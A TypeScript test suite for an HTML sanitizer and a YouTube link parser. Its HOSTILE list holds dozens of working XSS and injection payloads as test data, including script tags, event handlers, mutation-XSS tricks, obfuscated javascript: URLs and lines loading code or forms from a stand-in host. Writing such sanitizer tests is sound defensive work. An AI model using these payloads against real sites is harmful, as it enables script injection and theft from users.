import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml, videoIdOf, videoUrl, wordsOf } from './rich-text.ts';

// Owners write rich text that investors read: pasted content must not run, fetch, frame or
// navigate, except by a visible link.

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">a</p>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="http://plain.test">a</a>',
  '<a href="//evil.test">a</a>',
  '<a href="/\\evil.test">a</a>',
  '<a href="https://a.test" onclick="alert(1)" style="position:fixed">a</a>',
  '<a href="https://a.test" target="_self" rel="opener">a</a>',
  '<iframe src="https://www.youtube.com@evil.test/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="//www.youtube.com@evil"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.test"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<p style="background:url(https://evil.test/x)">a</p>',
  '<div style="position:fixed;inset:0">a</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>',
  '<form action="https://evil.test"><button>Sign in</button></form>',
  '<p id="__proto__" name="constructor" class="mantine-Button">a</p>',
  '<b>bold</b><custom-element onclick=alert(1)>',
  '<p onclick\u0000="alert(1)">a</p>',
  '<a href="https://a.test"><a href="javascript:alert(1)">a</a></a>',
  '＜script＞alert(1)＜/script＞',
  '<img src="https://evil.test/x.png">',
  '<img src="//evil.test/x.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/api/preview?path=../../x.png">',
  '<img src="/api/user/logout">',
  `<img src="/api/preview?path=${'a'.repeat(32)}.png&x=1" onerror="alert(1)">`,
  `<img src="/api/preview?path=${'a'.repeat(32)}.png" onload="alert(1)" srcset="//evil.test">`,
  `<img src="/api/preview?path=${'a'.repeat(32)}.svg">`,
];

const TAG = /<\/?([a-z][^\s/<>]*)((?:[\s/][^<>]*)?)>/gi;
const KNOWN = new Set('p h3 h4 ul ol li strong em u a blockquote br img'.split(' '));

function wrongIn(html: string): string[] {
  const wrong: string[] = [];
  for (const [whole, tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (!KNOWN.has(tag)) wrong.push(whole);
    const rest = attributes
      .replace(/ src="\/api\/preview\?path=[0-9a-f]{32}\.(jpg|png)"/, '')
      .replace(/ alt="[^"<>]*"/, '')
      .replace(/ (href)="(https:\/\/[^"<>]*|mailto:[^"<>]*)"/, '')
      .replace(' rel="noopener noreferrer nofollow"', '')
      .replace(' target="_blank"', '')
      .replace(/\/$/, '')
      .trimEnd();
    if (rest !== '') wrong.push(whole);
  }
  if (html.replaceAll(TAG, '').includes('<')) wrong.push('a tag that never ends');
  return wrong;
}

describe('rich text', () => {
  test.each(HOSTILE)('keeps no hostile part of %j', (html) => {
    const clean = cleanHtml(html);
    expect(wrongIn(clean)).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  test('keeps the permitted formatting and pictures', () => {
    const good =
      '<h3>Why</h3><p>A <strong>plant</strong> by <em>the</em> <u>sea</u>.<br />Two lines</p>' +
      '<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Said</blockquote>';
    expect(cleanHtml(good)).toBe(good);
    const own = `<p><img src="/api/preview?path=${'0a'.repeat(16)}.jpg" alt="The port" /></p>`;
    expect(cleanHtml(own)).toBe(own);
    expect(wordsOf('R&D <b>and</b> Söhne: a &lt; b &amp; c &gt; d')).toBe(
      'R&D and Söhne: a < b & c > d',
    );
    expect(cleanHtml('<a href="https://a.test/x?y=1&amp;z=2">a</a>')).toBe(
      '<a href="https://a.test/x?y=1&amp;z=2" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
  });

  test('keeps nothing executable from any combination of markup fragments', () => {
    const pieces = fc.constantFrom(
      ...HOSTILE,
      '<p>',
      '</p>',
      '"',
      "'",
      '>',
      '<',
      '--',
      '<!',
      ' ',
      '=',
    );
    const broken = fc.tuple(fc.constantFrom(...HOSTILE), fc.nat(40)).map(([s, n]) => s.slice(n));
    const text = fc.array(fc.oneof(pieces, broken, fc.string()), { maxLength: 8 });
    const numRuns = process.env.DEEP === '1' ? 20_000 : 400;
    fc.assert(
      fc.property(text, (all) => {
        const clean = cleanHtml(all.join(''));
        expect(wrongIn(clean)).toEqual([]);
        expect(wrongIn(cleanHtml(clean))).toEqual([]);
        expect(wordsOf(cleanHtml(clean))).toBe(wordsOf(clean));
      }),
      { numRuns },
    );
  });
});

describe('a video', () => {
  test.each([
    'https://www.youtube.com@evil.test/embed/dQw4w9WgXcQ',
    'https://youtube.com.evil.test/embed/dQw4w9WgXcQ',
    'https://evil.test/?https://www.youtube.com/embed/dQw4w9WgXcQ',
    'http://www.youtube.com/watch?v=dQw4w9WgXcQ',
    'javascript:dQw4w9WgXcQ',
    'https://www.youtube.com/redirect?q=https://evil.test',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ"onload=',
    'https://vimeo.com/123456789',
    '//www.youtube.com/embed/dQw4w9WgXcQ',
    '../../../evil',
    'dQw4w9WgXc',
    '',
  ])('is not recognised in %j', (given) => {
    expect(videoIdOf(given)).toBeUndefined();
  });

  test('is identified by its id alone and embedded from one host', () => {
    const ways = [
      'dQw4w9WgXcQ',
      'https://youtu.be/dQw4w9WgXcQ?t=4',
      'https://www.youtube.com/watch?list=x&v=dQw4w9WgXcQ',
      'https://m.youtube.com/watch?v=dQw4w9WgXcQ',
      'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
    ];
    for (const given of ways) expect(videoIdOf(given)).toBe('dQw4w9WgXcQ');
    expect(videoUrl('dQw4w9WgXcQ')).toBe('https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ');
  });
});
